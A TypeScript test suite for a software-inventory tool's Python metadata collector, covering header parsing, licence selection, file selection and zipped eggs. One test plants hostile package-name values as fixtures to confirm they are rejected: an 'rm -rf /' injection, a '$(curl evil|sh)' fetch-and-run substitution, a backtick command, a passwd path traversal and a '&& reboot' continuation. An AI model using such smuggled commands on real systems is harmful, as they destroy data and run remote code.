import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Collector } from '../../../src/inventory/collector.js';
import { parsePythonMetadata, pythonLicenses } from '../../../src/inventory/collectors/python.parse.js';
import { MAX_METADATA_BYTES, pythonCollector } from '../../../src/inventory/collectors/python.js';
import { walk } from '../../../src/inventory/walk.js';
import { PKGDB, makeRoot, runCollector, tempDir } from '../../helpers/fixtures.js';

const PY = path.join(PKGDB, 'python');
const fixture = (rel: string): string => readFileSync(path.join(PY, rel), 'utf8');

interface Fields {
  name: string | null;
  version: string | null;
  metadata_version: string | null;
  license: string | null;
  requires_dist: string[];
}

const EXPECTED = JSON.parse(fixture('expected.json')) as { files: Record<string, Fields> };

function fields(text: string): Fields {
  const md = parsePythonMetadata(text);
  return { name: md.name ?? null, version: md.version ?? null, metadata_version: md.metadataVersion ?? null, license: md.license ?? null, requires_dist: md.requiresDist };
}

/** Python's own reading of the same files: email.parser with the compat32 policy, as pip uses it. */
const PY_READER = `
import email.parser, json, sys
out = {}
for f in sys.argv[1:]:
    m = email.parser.Parser().parsestr(open(f, encoding='utf-8').read())
    g = lambda k: None if m.get(k) is None else str(m.get(k))
    out[f] = {'name': g('Name'), 'version': g('Version'), 'metadata_version': g('Metadata-Version'),
              'license': g('License'), 'requires_dist': [str(v) for v in m.get_all('Requires-Dist') or []],
              'license_expression': g('License-Expression'),
              'license_classifiers': [str(v) for v in m.get_all('Classifier') or [] if str(v).startswith('License ::')]}
print(json.dumps(out))
`;
const hasPython = spawnSync('python3', ['-c', 'import email.parser'], { stdio: 'ignore' }).status === 0;

/** Inputs that exercise the corners of RFC 822 header reading. */
const TRICKY: Record<string, string> = {
  crlf: 'Metadata-Version: 2.1\r\nName: crlf-pkg\r\nVersion: 1.0\r\n\r\nName: body-not-header\r\n',
  continuation: "Name: cont\nVersion: 1.0\nLicense: line one\n  line two\n\tline three\nRequires-Dist: a\nRequires-Dist: b ; extra == 'x'\n\nRequires-Dist: in-body\n",
  'from-line': 'From someone Mon Jan 1\nName: fromline\nVersion: 2\n',
  'blank-continuation': 'Name: ws\n   \nVersion: 3\n',
  'no-separator': 'Name: garbage\nthis is not a header\nVersion: 4\n',
  'leading-continuation': '  leading\nName: lead\nVersion: 5\n',
  'empty-header-name': ': novalue\nName: emptyname\nVersion: 6\n',
  duplicates: 'Name: first\nName: second\nVersion: 7\nVersion: 8\n',
  'case-insensitive': 'name: lower\nVERSION: 8\nlicense-expression: MIT OR Apache-2.0\n',
  'no-space': 'Name:nospace\nVersion:9 \n',
  'space-before-colon': 'Name : spaced\nVersion: 10\n',
  unicode: 'Name: naive\nVersion: 1.0\nLicense: Ünïcödé Licence\nSummary: ✓\n',
  'empty-value': 'Name:\nVersion: \nLicense:\n  continued\n',
  empty: '',
  'classifiers-only': 'Name: c\nVersion: 1\nClassifier: License :: OSI Approved\nClassifier: License :: OSI Approved :: MIT License\nClassifier: Topic :: X\n',
};

describe('Python core metadata parser', () => {
  for (const [file, want] of Object.entries(EXPECTED.files)) {
    it(`reads ${file} as Python does`, () => {
      expect(fields(fixture(file))).toEqual(want);
    });
  }

  it.skipIf(!hasPython)('agrees with python3 email.parser on every fixture and on tricky headers', () => {
    const { dir, cleanup } = tempDir('vigil-py-');
    try {
      const files = Object.keys(EXPECTED.files).map((f) => path.join(PY, f));
      for (const [name, text] of Object.entries(TRICKY)) {
        const f = path.join(dir, name);
        writeFileSync(f, text);
        files.push(f);
      }
      const python = JSON.parse(execFileSync('python3', ['-c', PY_READER, ...files], { encoding: 'utf8' })) as Record<string, Fields & { license_expression: string | null; license_classifiers: string[] }>;
      for (const f of files) {
        const md = parsePythonMetadata(readFileSync(f, 'utf8'));
        expect({ ...fields(readFileSync(f, 'utf8')), license_expression: md.licenseExpression ?? null, license_classifiers: md.licenseClassifiers }, f).toEqual(python[f]);
      }
      expect(python[path.join(dir, 'no-separator')]!.version).toBeNull();
      expect(python[path.join(dir, 'blank-continuation')]!.version).toBe('3');
    } finally {
      cleanup();
    }
  });

  it('picks licences: SPDX expression, then a short License header, then classifiers', () => {
    const lic = (text: string) => pythonLicenses(parsePythonMetadata(text));
    expect(lic(fixture('trivy-packaging/iniconfig-2.0.0.METADATA'))).toEqual(['MIT']);
    expect(lic(fixture('syft-dist-info/METADATA'))).toEqual(['BSD License']);
    expect(lic(fixture('trivy-packaging/zipp-3.12.1.METADATA'))).toEqual(['MIT License']);
    expect(lic(fixture('trivy-packaging/asyncssh-2.14.2.METADATA'))).toEqual(['Eclipse Public License v2.0']);
    expect(lic(fixture('trivy-packaging/setuptools-51.3.3-py3.8.egg-info.PKG-INFO'))).toEqual([]);
    expect(lic(fixture('trivy-packaging/networkx-3.0.METADATA'))).toEqual([]);
    expect(lic(fixture('trivy-packaging/pyphen-0.14.0.METADATA'))).toHaveLength(3);
    expect(lic(TRICKY['classifiers-only']!)).toEqual(['MIT License']);
    expect(lic('Name: x\nVersion: 1\nLicense: Copyright (c) 2020\n  Permission is hereby granted\nClassifier: License :: OSI Approved :: BSD License\n')).toEqual(['BSD License']);
  });
});

describe('Python file selection', () => {
  const w = (p: string) => pythonCollector.wants!(p, path.posix.basename(p));

  it('wants dist-info METADATA, egg-info PKG-INFO, egg-info files and unzipped eggs', () => {
    const yes = [
      '/usr/lib/python3/dist-packages/requests-2.28.1.dist-info/METADATA',
      '/usr/lib/python3/dist-packages/six-1.16.0.egg-info/PKG-INFO',
      '/usr/lib/python3/dist-packages/distlib-0.3.1-py3.9.egg-info',
      '/opt/app/lib/python3.11/site-packages/foo-1.0-py3.11.egg/EGG-INFO/PKG-INFO',
      '/opt/app/lib/python3.11/site-packages/foo-1.0-py3.11.egg',
      '/srv/venv/pyvenv.cfg',
      '/opt/conda/conda-meta/history',
    ];
    const no = [
      '/usr/lib/python3/dist-packages/requests/METADATA',
      '/usr/lib/python3/dist-packages/requests-2.28.1.dist-info/RECORD',
      '/srv/project/PKG-INFO',
      '/x/EGG-INFO/PKG-INFO',
      '/.egg-info',
      '/usr/lib/python3/dist-packages/six-1.16.0.egg-info/top_level.txt',
      '/srv/history',
      '/.egg',
    ];
    expect(yes.map(w)).toEqual(yes.map(() => true));
    expect(no.map(w)).toEqual(no.map(() => false));
  });
});

async function scan(root: string, c: Collector) {
  const files: string[] = [];
  await walk({ root, starts: ['/'] }, (rel, base) => {
    if (c.wants?.(rel, base)) files.push(rel);
  });
  return runCollector(c, root, { files });
}

describe('Python collector on a root filesystem', () => {
  const SP = '/usr/local/lib/python3.11/site-packages';
  const DP = '/usr/lib/python3/dist-packages';
  const copy = (rel: string) => ({ copy: path.join(PY, rel) });

  it('reports every installed distribution with a normalised purl and its own name', async () => {
    const { root, cleanup } = makeRoot({
      [`${DP}/Pygments-2.6.1.dist-info/METADATA`]: copy('syft-dist-info/METADATA'),
      [`${DP}/Pygments-2.6.1.dist-info/RECORD`]: copy('syft-dist-info/RECORD'),
      [`${DP}/Pygments-2.6.1.dist-info/top_level.txt`]: copy('syft-dist-info/top_level.txt'),
      [`${DP}/requests-2.22.0.egg-info/PKG-INFO`]: copy('syft-egg-info/PKG-INFO'),
      [`${DP}/requests-2.22.0.egg-info/top_level.txt`]: copy('syft-egg-info/top_level.txt'),
      [`${SP}/distlib-0.3.1-py3.9.egg-info`]: copy('trivy-packaging/distlib-0.3.1-py3.9.egg-info'),
      [`${SP}/setuptools-51.3.3-py3.8.egg-info/PKG-INFO`]: copy('trivy-packaging/setuptools-51.3.3-py3.8.egg-info.PKG-INFO'),
      [`${SP}/Unidecode-0.4.1-py3.11.egg/EGG-INFO/PKG-INFO`]: copy('trivy-packaging/unidecode-egg-info.PKG-INFO'),
      [`${SP}/simple-0.1.0.dist-info/METADATA`]: copy('trivy-packaging/simple-0.1.0.METADATA'),
      [`/opt/app/.venv/lib/python3.11/site-packages/zipp-3.12.1.dist-info/METADATA`]: copy('trivy-packaging/zipp-3.12.1.METADATA'),
      [`/opt/app/.venv/lib/python3.11/site-packages/iniconfig-2.0.0.dist-info/METADATA`]: copy('trivy-packaging/iniconfig-2.0.0.METADATA'),
    });
    try {
      const res = await scan(root, pythonCollector);
      expect(res.problems).toEqual([]);
      const rows = res.components.map((c) => [c.purl, c.name, c.version, c.locations, c.licenses ?? null]).sort();
      expect(rows).toEqual(
        [
          ['pkg:pypi/distlib@0.3.1', 'distlib', '0.3.1', [`${SP}/distlib-0.3.1-py3.9.egg-info`], ['Python license']],
          ['pkg:pypi/iniconfig@2.0.0', 'iniconfig', '2.0.0', ['/opt/app/.venv/lib/python3.11/site-packages/iniconfig-2.0.0.dist-info/METADATA'], ['MIT']],
          ['pkg:pypi/pygments@2.6.1', 'Pygments', '2.6.1', [`${DP}/Pygments-2.6.1.dist-info/METADATA`], ['BSD License']],
          ['pkg:pypi/requests@2.22.0', 'requests', '2.22.0', [`${DP}/requests-2.22.0.egg-info/PKG-INFO`], ['Apache 2.0']],
          ['pkg:pypi/setuptools@51.3.3', 'setuptools', '51.3.3', [`${SP}/setuptools-51.3.3-py3.8.egg-info/PKG-INFO`], null],
          ['pkg:pypi/simple@0.1.0', 'simple', '0.1.0', [`${SP}/simple-0.1.0.dist-info/METADATA`], null],
          ['pkg:pypi/unidecode@0.4.1', 'Unidecode', '0.4.1', [`${SP}/Unidecode-0.4.1-py3.11.egg/EGG-INFO/PKG-INFO`], null],
          ['pkg:pypi/zipp@3.12.1', 'zipp', '3.12.1', ['/opt/app/.venv/lib/python3.11/site-packages/zipp-3.12.1.dist-info/METADATA'], ['MIT License']],
        ].sort(),
      );
      const pygments = res.components.find((c) => c.name === 'Pygments')!;
      expect(pygments).toMatchObject({ ecosystem: 'pypi', foundBy: 'python', metadata: { metadataVersion: '2.1', requiresDist: EXPECTED.files['syft-dist-info/METADATA']!.requires_dist } });
    } finally {
      cleanup();
    }
  });

  it('reports malformed, binary, oversized and hostile metadata as problems and keeps going', async () => {
    const { root, cleanup } = makeRoot({
      [`${SP}/good-1.0.dist-info/METADATA`]: 'Metadata-Version: 2.1\nName: good\nVersion: 1.0\n',
      [`${SP}/empty-1.0.dist-info/METADATA`]: copy('trivy-packaging/invalid.json'),
      [`${SP}/noversion-1.0.dist-info/METADATA`]: 'Name: noversion\n',
      [`${SP}/binary-1.0.dist-info/METADATA`]: Buffer.from([0x4e, 0x61, 0x6d, 0x65, 0x3a, 0x00, 0xff, 0x13]),
      [`${SP}/huge-1.0.dist-info/METADATA`]: 'Name: huge\n',
      [`${SP}/evil-1.0.dist-info/METADATA`]: 'Name: evil;rm -rf /\nVersion: 1.0\n',
      [`${SP}/evil2-1.0.dist-info/METADATA`]: 'Name: $(curl evil|sh)\nVersion: 1.0\n',
      [`${SP}/evil3-1.0.dist-info/METADATA`]: 'Name: `id`\nVersion: 1.0\n',
      [`${SP}/evil4-1.0.dist-info/METADATA`]: 'Name: ../../etc/passwd\nVersion: 1.0\n',
      [`${SP}/badver-1.0.dist-info/METADATA`]: 'Name: badver\nVersion: 1.0\n  && reboot\n',
      [`${SP}/truncated-1.0.dist-info/METADATA`]: 'Metadata-Version: 2.1\nNa',
    });
    try {
      truncateSync(path.join(root, `${SP}/huge-1.0.dist-info/METADATA`), MAX_METADATA_BYTES + 1);
      const res = await scan(root, pythonCollector);
      expect(res.components.map((c) => c.purl)).toEqual(['pkg:pypi/good@1.0']);
      const probs = Object.fromEntries(res.problems.map((p) => [p.path.split('/')[6]!.replace('-1.0.dist-info', ''), p.code]));
      expect(probs).toEqual({
        empty: 'malformed-record',
        noversion: 'malformed-record',
        binary: 'corrupt',
        huge: 'too-large',
        evil: 'malformed-record',
        evil2: 'malformed-record',
        evil3: 'malformed-record',
        evil4: 'malformed-record',
        badver: 'malformed-record',
        truncated: 'malformed-record',
      });
      expect(res.problems.every((p) => p.collector === 'python' && !/[\n\r]/.test(p.message))).toBe(true);
    } finally {
      cleanup();
    }
  });
});

describe('zipped eggs', () => {
  const EGG = path.join(PY, 'cpython-egg/example-21.12-py3.6.egg');
  const SP = '/opt/py/lib/python3.9/site-packages';

  it("reads EGG-INFO/PKG-INFO inside a zipped egg as Python's importlib.metadata does", async () => {
    const ref = execFileSync('python3', ['-c', 'import importlib.metadata as m, sys\nfor d in m.distributions(path=[sys.argv[1]]): print(d.metadata["Name"], d.version)', EGG]).toString().trim();
    const { root, cleanup } = makeRoot({ [`${SP}/example-21.12-py3.6.egg`]: { copy: EGG } });
    try {
      const res = await scan(root, pythonCollector);
      expect(res.problems).toEqual([]);
      expect(res.components.map((c) => `${c.name} ${c.version}`)).toEqual([ref]);
      expect(res.components[0]).toMatchObject({ purl: 'pkg:pypi/example@21.12', locations: [`${SP}/example-21.12-py3.6.egg`], metadata: { pythonEnvironment: '/opt/py', pythonEnvironmentKind: 'interpreter' } });
    } finally {
      cleanup();
    }
  });

  it('reports a truncated egg, an egg without PKG-INFO and a file that is no zip, and keeps going', async () => {
    const egg = readFileSync(EGG);
    const { root, cleanup } = makeRoot({
      [`${SP}/good-21.12.egg`]: egg,
      [`${SP}/cut-1.0.egg`]: egg.subarray(0, egg.length - 30),
      [`${SP}/jar-1.0.egg`]: { copy: path.join(PKGDB, 'java/jars/jackson-annotations-2.15.0-rc2.metadata-only.jar') },
      [`${SP}/text-1.0.egg`]: 'not a zip at all\n',
    });
    try {
      const res = await scan(root, pythonCollector);
      expect(res.components.map((c) => c.locations[0])).toEqual([`${SP}/good-21.12.egg`]);
      const probs = Object.fromEntries(res.problems.map((p) => [path.posix.basename(p.path), p.message]));
      expect(Object.keys(probs).sort()).toEqual(['cut-1.0.egg', 'jar-1.0.egg', 'text-1.0.egg']);
      expect(probs['jar-1.0.egg']).toBe('Python egg without EGG-INFO/PKG-INFO');
      expect(probs['text-1.0.egg']).toMatch(/^not a readable Python egg: /);
    } finally {
      cleanup();
    }
  });
});
